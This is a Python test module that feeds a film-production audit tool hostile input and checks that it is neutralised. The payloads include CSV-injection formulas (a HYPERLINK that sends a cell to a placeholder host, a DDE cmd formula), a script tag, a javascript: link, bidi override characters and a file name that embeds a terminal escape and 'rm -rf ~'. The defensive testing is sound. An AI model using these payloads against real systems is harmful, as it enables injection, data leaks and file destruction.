"""Injection, text that crashed, and names (issue 18): formulas in every CSV written, rich markup
and control characters on the terminal, Markdown credits, bidirectional controls, emoji and CJK
in the PDF, NFD names, and ``--redact`` in every output. One hostile production, rendered once."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import Result

from audit.ingest.ledgers import ConsentRow
from audit.rights.scope import consent_matches_voice
from tests.report.report_support import WEASYPRINT_ICC_LEAK, pdf_text, write_production
from tests.security.hostile import AS_OF, invoke, one_line_error

pytestmark = [pytest.mark.slow, WEASYPRINT_ICC_LEAK]

#: The OWASP CSV-injection shapes, as a stranger's prompts would carry them.
FORMULAS = ('=HYPERLINK("http://x.invalid/?"&A1,"clic")', "+cmd|' /C calc'!A0", "@SUM(1+1)")
SUBJECT_NFD = "Loi\u0308c Martin"  # as macOS writes a file name or a form typed on it
SUBJECT = "Loïc Martin"
TITLE = "Phare 灯台 🎬 \u202eevil"
SCRIPT = "<script>alert(1)</script>"
LINK = "[clic](javascript:alert(1))"


def _production(root: Path) -> Path:
    generations = [
        {"platform": "midjourney", "modality": "image", "created_at": f"2026-09-0{i + 1}T10:00:00Z",
         "model": "v7 [/] [link=http://x.invalid]m[/link]", "prompt": prompt,
         "outputs": f'["SC01_SH0{i + 1}0_a.png"]'}
        for i, prompt in enumerate(FORMULAS)
    ]  # fmt: skip
    shots = [{"shot_id": f"SC01_SH0{i + 1}0", "duration_s": "4", "media": f"SC01_SH0{i + 1}0_a.png"}
             for i in range(len(FORMULAS))]  # fmt: skip
    credits = [{"role": "Voix", "name": SUBJECT}, {"role": SCRIPT, "name": LINK},
               {"role": "Montage", "name": "Ana\u202eoiraM"}]  # fmt: skip
    consents = [{"person": SUBJECT_NFD, "kind": "voice", "scope": "narration",
                 "document": "consents/loic-martin.pdf"}]  # fmt: skip
    fields = {"title": TITLE, "credits": credits, "directors": [SUBJECT]}
    return write_production(root, fields, {"generations.csv": generations}, shots, consents)


@pytest.fixture(scope="module")
def film(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _production(tmp_path_factory.mktemp("hostile") / "film")


@pytest.fixture(scope="module")
def rendered(film: Path) -> tuple[Path, Result]:
    out = film.parent / "out"
    result = invoke("report", str(film), "--out", str(out), "--as-of", AS_OF, "--lang", "en")
    return out, result


def test_report_of_hostile_text_is_written(rendered: tuple[Path, Result]) -> None:
    out, result = rendered
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output
    assert "WeasyPrint warned" not in result.output
    text = pdf_text(out / "report.pdf")
    assert "灯台" in text
    assert "\u202e" not in text


def test_formulas_are_neutralised_in_every_csv(rendered: tuple[Path, Result]) -> None:
    out, _ = rendered
    rows = list(csv.DictReader(io.StringIO((out / "generations.csv").read_text("utf-8"))))
    assert sorted(row["prompt"] for row in rows) == sorted("'" + f for f in FORMULAS)
    for name in ("generations.csv", "findings.csv", "inputs.csv"):
        for row in csv.reader(io.StringIO((out / name).read_text("utf-8"))):
            assert not [cell for cell in row if cell[:1] in ("=", "+", "@")], (name, row)


def test_bidi_controls_are_named_and_removed(rendered: tuple[Path, Result]) -> None:
    out, result = rendered
    assert "production.yaml: title: bidirectional control characters removed" in result.output
    assert "production.yaml: credits.2.name: bidirectional control" in result.output
    for name in ("credits.txt", "report.html", "audit.json"):
        assert "\u202e" not in (out / name).read_text("utf-8"), name


@pytest.mark.parametrize("command", ["audit", "estimate", "ingest"])
def test_markup_in_names_is_text_on_the_terminal(film: Path, command: str) -> None:
    result = invoke(command, str(film))
    assert result.exit_code == 0, result.output
    assert "\x1b]8;" not in result.output  # no terminal hyperlink
    if command == "audit":  # the findings table quotes the model name
        assert "[/]" in result.output
        assert "[link=" in result.output


def test_markdown_credits_are_escaped(film: Path) -> None:
    result = invoke("credits", str(film), "--format", "md", "--lang", "en", "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    assert "<script>" not in result.output
    assert "&lt;script&gt;" in result.output
    assert LINK not in result.output
    assert "\\[clic\\](javascript:alert(1))" in result.output


def test_control_characters_in_file_names_stay_on_one_line(tmp_path: Path) -> None:
    film = _production(tmp_path / "film")
    evil = film / "logs" / "a\x1b[2J\nrm -rf ~.json"
    evil.write_text("{not json", encoding="utf-8")
    result = invoke("ingest", str(film), "--adapter", "suno")
    line = one_line_error(result)
    assert "\x1b" not in line
    assert "a\\x1b[2J\\nrm -rf ~.json" in line


def test_undecodable_file_name_is_shown_not_a_traceback(tmp_path: Path) -> None:
    film = _production(tmp_path / "film")
    (film / "logs" / Path(b"caf\xe9.json".decode("utf-8", "surrogateescape"))).write_text("{}")
    result = invoke("ingest", str(film), "--json", "--lenient")
    assert result.exit_code == 0, result.output
    names = [f["name"] for f in json.loads(result.stdout)["files"]]
    assert "logs/caf\\xe9.json" in names


def test_nfd_consent_matches_nfc_voice_name() -> None:
    row = ConsentRow(file="rights/consents.csv", line=2, person=SUBJECT_NFD, kind="voice")
    assert consent_matches_voice(row, "", "Loïc (narration)")
    assert consent_matches_voice(row, "", "LOÏC MARTIN")


def test_redact_hides_the_subject_everywhere(film: Path, tmp_path: Path) -> None:
    out = tmp_path / "redacted"
    args = ["report", str(film), "--out", str(out), "--as-of", AS_OF, "--lang", "en", "--redact"]
    result = invoke(*args)
    assert result.exit_code == 0, result.output
    texts = {p.name: p.read_text("utf-8") for p in out.iterdir() if p.suffix in (".csv", ".html",
             ".json", ".txt")}  # fmt: skip
    texts["report.pdf"] = pdf_text(out / "report.pdf")
    if (out / "report.xlsx").is_file():
        from openpyxl import load_workbook

        book = load_workbook(out / "report.xlsx", read_only=True)
        cells = [str(c) for ws in book.worksheets for row in ws.iter_rows(values_only=True)
                 for c in row if c is not None]  # fmt: skip
        texts["report.xlsx"] = " ".join(cells)
    for name, text in texts.items():
        for word in ("Loïc", "Loi\u0308c", "Martin"):
            assert word not in text, (name, word)
    assert "person #1" in texts["credits.txt"]
